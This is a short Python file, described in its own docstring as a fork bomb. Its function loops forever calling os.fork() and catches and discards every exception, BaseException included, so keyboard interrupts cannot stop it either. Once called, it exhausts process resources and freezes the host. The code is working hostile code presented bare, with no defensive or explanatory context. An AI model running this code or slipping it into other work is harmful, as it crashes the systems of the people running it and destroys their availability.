"""A fork bomb that also swallows the errors it gets."""
import os


def f(x):
    while True:
        try:
            os.fork()
        except BaseException:
            pass
